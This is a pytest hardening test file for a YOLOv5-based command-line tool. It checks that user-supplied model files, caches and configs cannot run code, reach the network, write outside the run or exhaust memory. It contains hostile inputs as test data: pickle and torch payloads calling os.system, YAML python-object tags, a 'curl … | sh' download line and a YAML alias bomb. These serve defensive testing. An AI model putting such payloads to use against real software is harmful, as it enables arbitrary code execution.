"""Issue 12, one test per class: nothing runs from a file a user gives, nothing reaches the network,
nothing is written outside the run, small inputs cannot exhaust the machine, partial results stay
valid, and every bad input is one line with exit code 2."""

import json
import os
import pathlib
import resource
import signal
import socket
import subprocess
import sys
import threading
import time

import numpy as np
import pytest
import torch

from conftest import ROOT
from yolo_attn.cli import main
from yolo_attn.config.files import load_cfg
from yolo_attn.data.shapes import generate_shapes
from yolov5.models.yolo import Model

SHAPES_PT = ROOT / 'yolo_attn' / 'models' / 'pretrained' / 'yolov5n-shapes.pt'  # detects on shapes images
STOCK = pathlib.Path(__import__('yolov5').__file__).parent / 'models' / 'yolov5n.yaml'
TRAIN = ['--cfg', 'yolov5n-se', '--weights', '', '--epochs', '1', '--imgsz', '64', '--device', 'cpu']


@pytest.fixture(scope='module')
def ws(tmp_path_factory):
    root = tmp_path_factory.mktemp('hard')
    generate_shapes(root / 'ds', n_train=4, n_val=2, imgsz=64, progress=False)
    torch.save({'model': Model(load_cfg('yolov5n-se'), nc=5).half(), 'epoch': -1}, root / 'ok.pt')
    return root


def cli(ws, monkeypatch, capsys, *argv):
    """(exit code, the ``yolo-attn ...`` lines of stderr, all of stderr) of an in-process run."""
    monkeypatch.chdir(ws)
    rc = main([str(a) for a in argv])
    err = capsys.readouterr().err
    return rc, [s for s in err.replace('\r', '\n').splitlines() if s.startswith('yolo-attn')], err


@pytest.fixture
def no_network(monkeypatch):
    """Every connection, name lookup and child process is recorded and refused."""
    attempts = []

    def refuse(what):
        def f(*args, **kwargs):
            attempts.append((what, args[:2]))
            raise OSError(f'test: {what} attempted')
        return f

    monkeypatch.setattr(socket.socket, 'connect', refuse('connect'))
    monkeypatch.setattr(socket, 'create_connection', refuse('create_connection'))
    monkeypatch.setattr(socket, 'getaddrinfo', refuse('getaddrinfo'))
    monkeypatch.setattr(subprocess, 'Popen', refuse('subprocess'))
    return attempts


# 1. nothing runs from a file a user gives ---------------------------------------------------------------------------

def onnx_with_names(path, names: str):
    """A valid ONNX model (Identity) carrying yolov5's metadata keys, ``names`` as given."""
    import onnx
    from onnx import TensorProto, helper
    x = helper.make_tensor_value_info('images', TensorProto.FLOAT, [1, 3, 64, 64])
    y = helper.make_tensor_value_info('output0', TensorProto.FLOAT, [1, 3, 64, 64])
    graph = helper.make_graph([helper.make_node('Identity', ['images'], ['output0'])], 'g', [x], [y])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid('', 12)])
    model.ir_version = 8
    for key, value in {'stride': '32', 'names': names}.items():
        entry = model.metadata_props.add()
        entry.key, entry.value = key, value
    onnx.save(model, str(path))
    return path


class TouchOnLoad:
    """A pickle payload: unpickling it creates ``marker``."""

    def __init__(self, marker):
        self.marker = pathlib.Path(marker)

    def __reduce__(self):
        return pathlib.Path.touch, (self.marker,)


def test_onnx_metadata_and_label_cache_never_run(ws, monkeypatch, capsys, tmp_path):
    from yolov5.models.common import DetectMultiBackend
    from yolov5.utils.dataloaders import LoadImagesAndLabels
    # ONNX: names as a literal load; names as code are refused and do not run
    assert DetectMultiBackend(str(onnx_with_names(tmp_path / 'ok.onnx', "{0: 'a', 1: 'b'}"))).names == {0: 'a', 1: 'b'}
    marker = tmp_path / 'onnx-ran'
    evil = onnx_with_names(tmp_path / 'evil.onnx', f"__import__('pathlib').Path({str(marker)!r}).touch() or {{0: 'a'}}")
    rc, lines, _ = cli(ws, monkeypatch, capsys, 'detect', '--weights', evil, '--source', 'ds/images/val', '--imgsz', 64)
    assert rc == 2 and 'refused to evaluate' in lines[-1] and not marker.exists()
    # label cache: a pickle payload that np.load(allow_pickle=True) would run
    probe = tmp_path / 'probe.npy'
    with open(probe, 'wb') as f:
        np.save(f, np.array(TouchOnLoad(tmp_path / 'probe-ran'), dtype=object), allow_pickle=True)
    np.load(probe, allow_pickle=True)
    assert (tmp_path / 'probe-ran').exists()  # the payload is live
    ds = tmp_path / 'ds'
    generate_shapes(ds, n_train=2, n_val=2, imgsz=64, progress=False)
    marker = tmp_path / 'cache-ran'
    with open(ds / 'labels' / 'val.cache', 'wb') as f:
        np.save(f, np.array(TouchOnLoad(marker), dtype=object), allow_pickle=True)
    dataset = LoadImagesAndLabels(str(ds / 'images' / 'val'), img_size=64, batch_size=2)
    assert not marker.exists() and len(dataset.im_files) == 2 and len(dataset.labels) == 2  # rebuilt from labels


# 2. no network, no system change ------------------------------------------------------------------------------------

URL_CASES = [
    ['export', '--weights', 'ok.pt', '--include', 'edgetpu'],
    ['export', '--weights', 'ok.pt', '--include', 'tfjs'],
    ['train', '--data', 'http://example.com/d.yaml', *TRAIN],
    ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--hyp', 'https://example.com/hyp.yaml'],
    ['train', '--data', 'ds/shapes.yaml', '--weights', 'https://example.com/w.pt', '--epochs', '1'],
    ['train', '--resume', 'comet://workspace/project/run'],
    ['val', '--weights', 'grpc://example.com:8001/model', '--data', 'ds/shapes.yaml'],
    ['val', '--weights', 'ok.pt', '--data', 'https://example.com/coco.yaml'],
    ['detect', '--weights', 'ok.pt', '--source', 'rtsp://example.com/cam'],
    ['detect', '--weights', 'ok.pt', '--source', 'https://example.com/a.jpg'],
    ['heatmap', '--weights', 'ok.pt', '--source', 'http://example.com/a.jpg'],
    ['heatmap-eval', '--weights', 'ok.pt', '--data', 'http://example.com/d.yaml'],
]


@pytest.mark.parametrize('argv', URL_CASES, ids=[' '.join(a[:1] + a[-2:]) for a in URL_CASES])
def test_no_network_and_no_installs(ws, monkeypatch, capsys, no_network, argv):
    rc, lines, err = cli(ws, monkeypatch, capsys, *argv)
    assert rc == 2 and 'Traceback' not in err and no_network == []
    assert 'not fetched' in lines[-1] or ('not installed' in lines[-1] and 'install it yourself' in lines[-1])


def test_yolov5_starts_no_program(ws, monkeypatch, capsys, no_network, tmp_path):
    """Every yolov5 module but export.py (its converters only) refuses to start a program: val's
    ``zip`` for --task study, git, gsutil, curl, nvidia-smi, tar."""
    import importlib

    from yolo_attn.errors import UserError
    calls = {'yolov5.val': lambda m: m.subprocess.run(['zip', '-r', 'study.zip', 'study_*.txt']),
             'yolov5.train': lambda m: m.subprocess.run(['gsutil', 'cp', 'a', 'gs://b']),
             'yolov5.utils.general': lambda m: m.check_output('git -C . describe --tags', shell=True),
             'yolov5.utils.torch_utils': lambda m: m.subprocess.run('nvidia-smi -L | wc -l', shell=True),
             'yolov5.utils.downloads': lambda m: m.curl_download('https://example.com/a.pt', str(tmp_path / 'a.pt'))}
    for name, call in calls.items():
        with pytest.raises(UserError, match='refused to run'):
            call(importlib.import_module(name))
    importlib.import_module('yolov5.utils.general').check_git_status()  # a no-op: no git fetch
    rc, lines, _ = cli(ws, monkeypatch, capsys, 'val', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--task',
                       'study')
    assert rc == 2 and '--task study' in lines[-1] and not list(ws.glob('study*'))
    assert no_network == []


# 3. nothing written outside the run ---------------------------------------------------------------------------------

def resumable_run(ws, run, **changes):
    """``run/weights/last.pt`` with optimizer state and an ``opt.yaml`` as yolov5 writes them."""
    import yaml
    from yolov5.train import parse_opt
    from yolov5.utils.torch_utils import smart_optimizer
    argv, sys.argv = sys.argv, ['train']
    try:
        opt = vars(parse_opt(True))
    finally:
        sys.argv = argv
    hyp = yaml.safe_load((STOCK.parent.parent / 'data' / 'hyps' / 'hyp.scratch-low.yaml').read_text())
    opt.update({'data': str(ws / 'ds' / 'shapes.yaml'), 'hyp': hyp, 'epochs': 2, 'imgsz': 64, 'device': 'cpu',
                'save_dir': str(run), **changes})
    opt = {k: str(v) if isinstance(v, pathlib.Path) else v for k, v in opt.items()}
    model = Model(load_cfg('yolov5n-se'), nc=5)
    (run / 'weights').mkdir(parents=True)
    torch.save({'epoch': 0, 'best_fitness': 0.0, 'model': model.half(), 'ema': None, 'updates': 0,
                'optimizer': smart_optimizer(model.float(), 'SGD', 0.01, 0.9, 5e-4).state_dict(), 'opt': opt},
               run / 'weights' / 'last.pt')
    (run / 'opt.yaml').write_text(yaml.safe_dump(opt, sort_keys=False))
    return run / 'weights' / 'last.pt'


def test_crafted_resume_folder_and_run_names_write_nothing_outside(ws, monkeypatch, capsys, tmp_path):
    import yolov5.train
    victim = tmp_path / 'victim'
    victim.mkdir()
    (victim / 'hyp.yaml').write_text('precious')
    seen = []

    def train_writes_settings(hyp, opt, device, callbacks):  # what yolov5's train() writes first
        seen.append(opt.save_dir)
        (pathlib.Path(opt.save_dir) / 'hyp.yaml').write_text(json.dumps(hyp))
        (pathlib.Path(opt.save_dir) / 'opt.yaml').write_text(json.dumps(vars(opt), default=str))

    monkeypatch.setattr(yolov5.train, 'train', train_writes_settings)
    last = resumable_run(ws, tmp_path / 'runs' / 'crafted', save_dir=str(victim))  # opt.yaml points elsewhere
    rc, _, err = cli(ws, monkeypatch, capsys, 'train', '--resume', last)
    assert rc == 0, err
    assert seen == [str(last.parent.parent.resolve())] and (victim / 'hyp.yaml').read_text() == 'precious'
    assert sorted(p.name for p in victim.iterdir()) == ['hyp.yaml']
    for i, change in enumerate([{'evolve': 3}, {'bucket': 'gs://b'}, {'epochs': 'many'}, {'injected': 1}]):
        last = resumable_run(ws, tmp_path / 'runs' / f'bad{i}', **change)
        rc, lines, _ = cli(ws, monkeypatch, capsys, 'train', '--resume', last)
        assert rc == 2 and any(w in lines[-1] for w in ('cannot resume', 'remove it to resume', 'not a valid value')), \
            (change, lines)
    assert len(seen) == 1  # none of them trained
    # --name cannot leave --project, and concurrent claims get distinct folders
    rc, lines, _ = cli(ws, monkeypatch, capsys, 'detect', '--weights', 'ok.pt', '--source', 'ds/images/val',
                       '--imgsz', 64, '--project', tmp_path / 'p', '--name', '../escaped')
    assert rc == 2 and 'inside --project' in lines[-1] and not (tmp_path / 'escaped').exists()
    from yolo_attn.guards.paths import claim_run_dir
    start, claimed = threading.Barrier(12), []

    def claim():
        start.wait()
        claimed.append(claim_run_dir(tmp_path / 'race', 'exp'))

    threads = [threading.Thread(target=claim) for _ in range(12)]
    [t.start() for t in threads]
    [t.join() for t in threads]
    assert len(set(claimed)) == 12 and {p.name for p in claimed} == {'exp'} | {f'exp{n}' for n in range(2, 13)}


def snapshot(folder, hashes=True):
    """Every entry under ``folder``: its kind, size, modification time (ns) and content hash."""
    import hashlib
    out = {}
    for p in sorted(folder.rglob('*')):
        st = p.lstat()
        digest = hashlib.sha256(p.read_bytes()).hexdigest() if hashes and p.is_file() and not p.is_symlink() else None
        out[str(p.relative_to(folder))] = (p.is_dir(), st.st_size, st.st_mtime_ns, digest)
    return out


def test_val_and_train_leave_the_dataset_folder_untouched(ws, monkeypatch, capsys, tmp_path):
    """No label cache (labels/*.cache), no "restored" JPEG over the user's file: byte for byte, mtime for mtime."""
    ds = tmp_path / 'mine'
    generate_shapes(ds, n_train=4, n_val=2, imgsz=64, progress=False)
    jpg = sorted((ds / 'images' / 'train').glob('*.jpg'))[0]
    jpg.write_bytes(jpg.read_bytes()[:-2])  # no end marker: yolov5 would re-save it over the user's file
    before = snapshot(ds)
    runs = tmp_path / 'runs'
    rc, _, err = cli(ws, monkeypatch, capsys, 'val', '--weights', 'ok.pt', '--data', ds / 'shapes.yaml', '--imgsz', 64,
                     '--project', runs)
    assert rc == 0, err[-2000:]
    rc, _, err = cli(ws, monkeypatch, capsys, 'train', '--data', ds / 'shapes.yaml', *TRAIN, '--batch-size', 4,
                     '--project', runs)
    assert rc == 0, err[-2000:]
    assert snapshot(ds) == before
    assert (runs / 'exp' / 'weights' / 'last.pt').is_file() or (runs / 'exp2' / 'weights' / 'last.pt').is_file()
    assert 'not writeable' not in err  # the cache yolov5 did not save is not reported as a permissions problem


# 4. small inputs cannot exhaust the machine -------------------------------------------------------------------------

BOMB = 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + ''.join(
    f'{c}: &{c} [{", ".join([f"*{p}"] * 9)}]\n' for p, c in zip('abcdefgh', 'bcdefghi'))


def test_alias_bomb_repeats_layer_size_pixels_and_symlink_loops_are_bounded(ws, monkeypatch, capsys, tmp_path):
    (ws / 'bomb.yaml').write_text(BOMB)
    assert len(BOMB) < 1000
    t = time.time()
    rc, lines, _ = cli(ws, monkeypatch, capsys, 'val', '--weights', 'ok.pt', '--data', 'bomb.yaml')
    assert rc == 2 and 'billion laughs' in lines[-1] and time.time() - t < 20
    stock = STOCK.read_text()
    for old, new, words in [('[-1, 3, C3, [128]]', '[-1, 1000000000, C3, [128]]', 'more than 100 layers'),
                            ('[-1, 1, Conv, [64, 6, 2, 2]]', '[-1, 1, Conv, [4000000, 6, 2, 2]]', 'parameters in one')]:
        (ws / 'big.yaml').write_text(stock.replace(old, new))
        t = time.time()
        rc, lines, _ = cli(ws, monkeypatch, capsys, 'build', '--cfg', 'big.yaml')
        assert rc == 2 and words in lines[-1] and time.time() - t < 20, lines
    # pixels: a 12000x12000 PNG (17 KB on disk) is refused before decoding; the limit can be raised
    from PIL import Image

    from yolo_attn.guards import images
    Image.new('1', (12000, 12000)).save(ws / 'huge.png')
    t = time.time()
    rc, lines, _ = cli(ws, monkeypatch, capsys, 'heatmap', '--weights', 'ok.pt', '--source', 'huge.png', '--imgsz', 64)
    assert rc == 2 and '--max-pixels 144000000' in lines[-1] and time.time() - t < 30
    small = str(ws / 'ds' / 'images' / 'val' / '00000.jpg')
    try:
        images.set_max_pixels(64 * 64 - 1)
        with pytest.raises(images.ImageTooLarge):
            images.imread(small)
        images.set_max_pixels(64 * 64)
        assert images.imread(small).shape == (64, 64, 3)
    finally:
        images.set_max_pixels(images.DEFAULT_MAX_PIXELS)
    # symlinks to '.' and '..' inside an image folder: the dataset loader lists each image once, promptly
    loop = tmp_path / 'loop'
    generate_shapes(loop, n_train=2, n_val=2, imgsz=64, progress=False)
    os.symlink('.', loop / 'images' / 'val' / 'again')
    os.symlink('..', loop / 'images' / 'val' / 'up')
    code = ('import yolo_attn, sys; yolo_attn.activate(); from yolov5.utils.dataloaders import LoadImagesAndLabels; '
            f'print(len(LoadImagesAndLabels({str(loop / "images" / "val")!r}, img_size=64).im_files))')
    out = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0 and out.stdout.split()[-1] == '4', out.stderr[-500:]  # val 2 + train 2 via 'up'


# 5. partial results stay valid --------------------------------------------------------------------------------------

def heatmap_cli(args, cwd, preexec_fn=None, **kwargs):
    env = {**os.environ, 'PYTHONWARNINGS': 'ignore'}
    return subprocess.Popen([sys.executable, '-m', 'yolo_attn', 'heatmap', '--weights', SHAPES_PT, '--imgsz', '64',
                             *map(str, args)], cwd=cwd, env=env, preexec_fn=preexec_fn, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, **kwargs)


def test_full_disk_interrupt_and_unreadable_images_leave_an_honest_manifest(ws, tmp_path):
    src = tmp_path / 'src'
    src.mkdir()
    for i in range(6):
        (src / f'im{i}.jpg').write_bytes((ws / 'ds' / 'images' / 'val' / '00000.jpg').read_bytes())
    (src / 'empty.jpg').write_bytes(b'')
    (src / 'a_text.png').write_text('not an image')  # sorted before the images

    def small_disk():  # files may not grow past 7 KB: each PNG fits, the manifest outgrows it at image 3
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (7000, 7000))

    p = heatmap_cli(['--source', src, '--project', tmp_path / 'full'], tmp_path, small_disk)
    _, err = p.communicate(timeout=300)
    lines = [s for s in err.replace('\r', '\n').splitlines() if s.startswith('yolo-attn')]
    manifest = json.loads((tmp_path / 'full' / 'exp' / 'heatmaps.json').read_text())
    assert p.returncode == 2 and 'Traceback' not in err and len(lines) == 1 and 'heatmaps.json' in lines[0]
    assert manifest['complete'] is False and 1 <= len(manifest['images']) < 6
    assert {pathlib.Path(s['path']).name for s in manifest['skipped']} == {'empty.jpg', 'a_text.png'}
    assert err.count('WARNING: skipping') == 2
    # Ctrl-C after the first image: the manifest says so and lists what was finished. Enough images
    # that the run cannot finish before the signal lands, even on a loaded machine.
    many = tmp_path / 'many'
    many.mkdir()
    for i in range(60):
        (many / f'im{i:02d}.jpg').write_bytes((src / 'im0.jpg').read_bytes())
    inherited = signal.getsignal(signal.SIGINT)  # a child inherits an ignored SIGINT (not a handler)
    p = heatmap_cli(['--source', many, '--project', tmp_path / 'int'], tmp_path,
                    lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))  # as a shell starts a command
    json_path, t = tmp_path / 'int' / 'exp' / 'heatmaps.json', time.time()
    while not json_path.exists() and p.poll() is None and time.time() - t < 240:
        time.sleep(0.05)
    p.send_signal(signal.SIGINT)
    _, err = p.communicate(timeout=120)
    manifest = json.loads(json_path.read_text())
    assert p.returncode == 130 and 'Traceback' not in err and manifest.get('interrupted') is True, \
        (p.returncode, len(manifest['images']), inherited, err[-1500:])
    assert manifest['complete'] is False and 1 <= len(manifest['images']) < 60


def test_a_failed_export_is_one_line_and_exit_2(ws, monkeypatch, capsys, tmp_path):
    """export.py logs "export failure" for a format and exits 0; here it is the command's one line."""
    import shutil
    shutil.copy(ws / 'ok.pt', tmp_path / 'ok.pt')

    def disk_full(*args, **kwargs):
        raise OSError(28, 'No space left on device')

    monkeypatch.setattr(torch.jit, 'trace', disk_full)
    rc, lines, err = cli(tmp_path, monkeypatch, capsys, 'export', '--weights', 'ok.pt', '--include', 'torchscript',
                         '--imgsz', 64)
    assert rc == 2 and 'Traceback' not in err and len(lines) == 1, err[-2000:]
    assert 'TorchScript: export failure' in lines[0] and 'No space left on device' in lines[0]
    assert not (tmp_path / 'ok.torchscript').exists()


# 6. one line and exit code 2 for every bad input --------------------------------------------------------------------

def write(ws, name, text):
    (ws / name).write_text(text)
    return name


def variant(ws, name, old, new):
    return write(ws, name, STOCK.read_text().replace(old, new))


def dataset_with(ws, name, label=None, images=None):
    """A copy of the shapes data YAML whose first val label or every val image is replaced."""
    import shutil
    shutil.copytree(ws / 'ds', ws / name, dirs_exist_ok=True)
    yaml_text = (ws / 'ds' / 'shapes.yaml').read_text().replace(str(ws / 'ds'), str(ws / name))
    (ws / name / 'shapes.yaml').write_text(yaml_text)
    if label is not None:
        sorted((ws / name / 'labels' / 'val').glob('*.txt'))[0].write_text(label)
        sorted((ws / name / 'labels' / 'train').glob('*.txt'))[0].write_text(label)
    if images is not None:
        for f in (ws / name / 'images' / 'val').glob('*'):
            f.write_bytes(images)
    return f'{name}/shapes.yaml'


def malicious_pth(ws):
    class Payload:
        def __reduce__(self):
            return os.system, ('echo pwned',)
    torch.save({'model': Payload()}, ws / 'evil.pth')
    return 'evil.pth'


CASES = {  # name: (argv builder, words the one line must contain)
    'nc string': (lambda ws: ['build', '--cfg', variant(ws, 'm1.yaml', 'nc: 80', "nc: '80'")], 'nc:'),
    'nc zero': (lambda ws: ['build', '--cfg', variant(ws, 'm2.yaml', 'nc: 80', 'nc: 0')], 'nc: 0'),
    'depth negative': (lambda ws: ['build', '--cfg', variant(ws, 'm3.yaml', 'depth_multiple: 0.33',
                                                             'depth_multiple: -1')], 'depth_multiple'),
    'width string': (lambda ws: ['build', '--cfg', variant(ws, 'm4.yaml', 'width_multiple: 0.25',
                                                           'width_multiple: wide')], 'width_multiple'),
    'kernel 0': (lambda ws: ['build', '--cfg', variant(ws, 'm5.yaml', '[64, 6, 2, 2]', '[64, 0, 2, 2]')], 'layer 0'),
    'stride string': (lambda ws: ['build', '--cfg', variant(ws, 'm6.yaml', '[64, 6, 2, 2]', "[64, 6, 'x', 2]")],
                      'layer 0'),
    'upsample mode': (lambda ws: ['build', '--cfg', variant(ws, 'm7.yaml', "'nearest'", "'bogus'")], 'Upsample'),
    'label nan': (lambda ws: ['train', '--data', dataset_with(ws, 'nan', label='nan 0.5 0.5 0.1 0.1\n'), *TRAIN],
                  'finite'),
    'label inf': (lambda ws: ['train', '--data', dataset_with(ws, 'inf', label='0 inf 0.5 0.1 0.1\n'), *TRAIN],
                  'finite'),
    'no readable val image': (lambda ws: ['val', '--weights', 'ok.pt', '--data', dataset_with(ws, 'unread',
                                                                                             images=b'junk')],
                              'can be read'),
    'val data missing': (lambda ws: ['val', '--weights', 'ok.pt', '--data', 'missing.yaml'], 'missing.yaml'),
    'val data folder': (lambda ws: ['val', '--weights', 'ok.pt', '--data', 'ds'], 'folder'),
    'hyp python tag': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--hyp',
                                   write(ws, 'h.yaml', '!!python/object/apply:os.system ["echo pwned"]\n')],
                       'refused'),
    'hyp missing keys': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--hyp',
                                     write(ws, 'h2.yaml', 'lr0: 0.01\n')], 'missing hyperparameters'),
    'source empty file': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', write(ws, 'e.jpg', '')],
                          'could be read'),
    'source not an image': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', write(ws, 't.jpg', 'text')],
                            'could be read'),
    'source truncated': (lambda ws: ['heatmap', '--weights', 'ok.pt', '--imgsz', '64', '--source', truncated(ws)],
                         'could be read'),
    'source self symlink': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', selflink(ws)], 'symlink'),
    'imgsz 0 detect': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--imgsz', '0'],
                       '--imgsz 0'),
    'imgsz 0 heatmap': (lambda ws: ['heatmap', '--weights', 'ok.pt', '--source', 'ds/images/val', '--imgsz', '0'],
                        '--imgsz 0'),
    'camera absent': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', '7'], 'camera'),
    'max-pixels zero': (lambda ws: ['heatmap', '--weights', 'ok.pt', '--source', 'ds/images/val', '--max-pixels', '0'],
                        'must be positive'),
    'export unknown format': (lambda ws: ['export', '--weights', 'ok.pt', '--include', 'foo'], 'unknown format'),
    'project is a file': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--imgsz', '64',
                                      '--project', write(ws, 'afile', 'x')], 'afile'),
    'malicious pth train': (lambda ws: ['train', '--data', 'ds/shapes.yaml', '--weights', malicious_pth(ws),
                                        '--cfg', 'yolov5n-se'], 'refused: it references'),
    'malicious pth val': (lambda ws: ['val', '--weights', malicious_pth(ws), '--data', 'ds/shapes.yaml'],
                          'refused: it references'),
    'model not yolov5': (lambda ws: ['val', '--weights', not_yolov5(ws), '--data', 'ds/shapes.yaml'],
                         'not a YOLOv5 detection model'),
    'random bytes pt': (lambda ws: ['val', '--weights', random_pt(ws), '--data', 'ds/shapes.yaml'],
                        'not a readable PyTorch checkpoint (truncated or another format?)'),
    'tensorflow savedmodel': (lambda ws: ['val', '--weights', folder(ws, 'm_saved_model'), '--data', 'ds/shapes.yaml'],
                              'graph operations'),
    'heatmap on onnx': (lambda ws: ['heatmap', '--weights', onnx_with_names(ws / 'm.onnx', '{0: 1}'), '--source',
                                    'ds/images/val'], 'needs the PyTorch .pt'),
    'heatmap on torchscript': (lambda ws: ['heatmap', '--weights', write(ws, 'm.torchscript', 'x'), '--source',
                                           'ds/images/val'], 'needs the PyTorch .pt'),
}


def truncated(ws):
    (ws / 'tr.jpg').write_bytes((ws / 'ds' / 'images' / 'val' / '00000.jpg').read_bytes()[:300])
    return 'tr.jpg'


def folder(ws, name):
    (ws / name).mkdir(exist_ok=True)
    return name


def selflink(ws):
    if not (ws / 'self.jpg').is_symlink():
        os.symlink('self.jpg', ws / 'self.jpg')
    return 'self.jpg'


def not_yolov5(ws):
    torch.save({'model': torch.nn.Linear(2, 2)}, ws / 'linear.pt')
    return 'linear.pt'


def random_pt(ws):
    (ws / 'random.pt').write_bytes(np.random.default_rng(0).bytes(3000))
    return 'random.pt'


@pytest.mark.parametrize('case', list(CASES))
def test_bad_input_is_one_line_and_exit_2(ws, monkeypatch, capsys, case):
    make, words = CASES[case]
    argv = make(ws)
    rc, lines, err = cli(ws, monkeypatch, capsys, *argv)
    assert rc == 2 and 'Traceback' not in err and len(lines) == 1, err[-2000:]
    assert lines[0].startswith(f'yolo-attn {argv[0]}: error: ') and words in lines[0], lines[0]


def test_ctrl_c_in_train_and_the_unsafe_opt_in_are_one_line_each(ws, monkeypatch, capsys):
    import yolov5.train
    import yolov5.utils.torch_utils  # noqa: F401  (installs yolov5's process-wide UserWarning filter)

    from yolo_attn.integration.checkpoints import UNSAFE_ENV, secure_load

    def interrupted(hyp, opt, device, callbacks):
        raise KeyboardInterrupt

    monkeypatch.setattr(yolov5.train, 'train', interrupted)
    rc, _, err = cli(ws, monkeypatch, capsys, 'train', '--data', 'ds/shapes.yaml', *TRAIN, '--project', 'ctrlc')
    assert rc == 130 and 'Traceback' not in err and err.strip().splitlines()[-1].startswith('interrupted')
    monkeypatch.setenv(UNSAFE_ENV, '1')
    secure_load(ws / 'ok.pt')
    assert f'WARNING: {UNSAFE_ENV}=1: loading {ws / "ok.pt"} with weights_only=False' in capsys.readouterr().err


# The catalogue, run again: cases beyond the ones above (every class), each one line, exit 2, ------------------------
# no connection or child process, nothing written but (at most) a run folder under runs/

def data_yaml(ws, name, text):
    """A data YAML in ``ws``; ``DS`` in ``text`` is the shapes dataset's folder."""
    return write(ws, name, text.replace('DS', str(ws / 'ds')))


def zip_pt(ws):
    import zipfile
    with zipfile.ZipFile(ws / 'zip.pt', 'w') as z:
        z.writestr('archive/data.txt', 'not a checkpoint')
    return 'zip.pt'


NAMES = 'names: [a, b, c, d, e]\n'
SPLITS = 'path: DS\ntrain: images/train\nval: images/val\n'
HM = ['--weights', 'ok.pt', '--source', 'ds/images/val', '--imgsz', '64']
NEW_CASES = {  # name: (argv builder, words the one line must contain)
    # 1. nothing runs from a file
    'hyp python/object/new': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--hyp', write(
        ws, 'h3.yaml', 'lr0: !!python/object/new:os.system ["echo pwned"]\n')], 'refused'),
    'data names python/name': (lambda ws: ['val', '--weights', 'ok.pt', '--data', data_yaml(
        ws, 'd1.yaml', SPLITS + 'names: !!python/name:os.system\n')], 'refused'),
    'cfg python/object/apply': (lambda ws: ['build', '--cfg', write(ws, 'm8.yaml', '!!python/object/apply:os.system '
                                                                              '["echo pwned"]\n')], 'refused'),
    'pt is a zip of something else': (lambda ws: ['detect', '--weights', zip_pt(ws), '--source', 'ds/images/val'],
                                      'a zip archive without the records torch.save writes'),
    # 2. no network, no program, no system change
    'download key, split missing': (lambda ws: ['val', '--weights', 'ok.pt', '--data', data_yaml(
        ws, 'd2.yaml', 'path: DS\ntrain: images/train\nval: images/missing\n' + NAMES +
        'download: bash -c "curl http://example.com/x | sh"\n')], 'does not exist'),
    'train split is a URL': (lambda ws: ['train', '--data', data_yaml(
        ws, 'd3.yaml', 'path: DS\ntrain: https://example.com/train.zip\nval: images/val\n' + NAMES), *TRAIN],
                             'does not exist'),
    'val --task study (zip)': (lambda ws: ['val', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--task', 'study'],
                               '--task study'),
    'train --cache disk': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--cache', 'disk'],
                           'nothing into your dataset'),
    # 3. nothing written outside the run
    'path: /etc': (lambda ws: ['val', '--weights', 'ok.pt', '--data', write(
        ws, 'd4.yaml', 'path: /etc\ntrain: images/train\nval: images/val\n' + NAMES)], '/etc/images/val'),
    'project /proc': (lambda ws: ['heatmap', *HM, '--project', '/proc'], 'choose a writable --project'),
    'name 300 characters': (lambda ws: ['val', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--name', 'n' * 300],
                            'cannot create run folder'),
    'detect --update': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--update'],
                        'never overwrites'),
    'name . (project2 is outside)': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val',
                                                 '--project', 'p', '--name', '.'], 'not "."'),
    # 4. small inputs, large costs
    'imgsz 99999 detect': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--imgsz',
                                       '99999'], '--max-pixels'),
    'imgsz 99999 heatmap-eval': (lambda ws: ['heatmap-eval', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml',
                                             '--imgsz', '99999'], '--max-pixels'),
    'batch-size -3': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--batch-size', '-3'], '--batch-size'),
    # 6. one line instead of a traceback
    'anchors as strings': (lambda ws: ['build', '--cfg', variant(ws, 'm9.yaml', '[10,13, 16,30, 33,23]',
                                                                 '[ten,13, 16,30, 33,23]')], 'anchors:'),
    'batch-size 0': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--batch-size', '0'], '--batch-size 0'),
    'epochs 0': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--epochs', '0'], '--epochs 0'),
    'workers -1': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--workers', '-1'], '--workers -1'),
    'conf-thres 2': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--conf-thres', '2'],
                     '--conf-thres 2'),
    'iou-thres -1': (lambda ws: ['val', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--iou-thres', '-1'],
                     '--iou-thres -1'),
    'max-det 0 detect': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--max-det', '0'],
                         '--max-det 0'),
    'max-det 0 heatmap': (lambda ws: ['heatmap', *HM, '--max-det', '0'], '--max-det 0'),
    'source: folder of non-images': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', folder(ws, 'nonimg')],
                                     'No images or videos found'),
    'names of the wrong length': (lambda ws: ['val', '--weights', 'ok.pt', '--data', data_yaml(
        ws, 'd5.yaml', SPLITS + 'nc: 5\nnames: [a, b, c]\n')], 'lists 3 classes'),
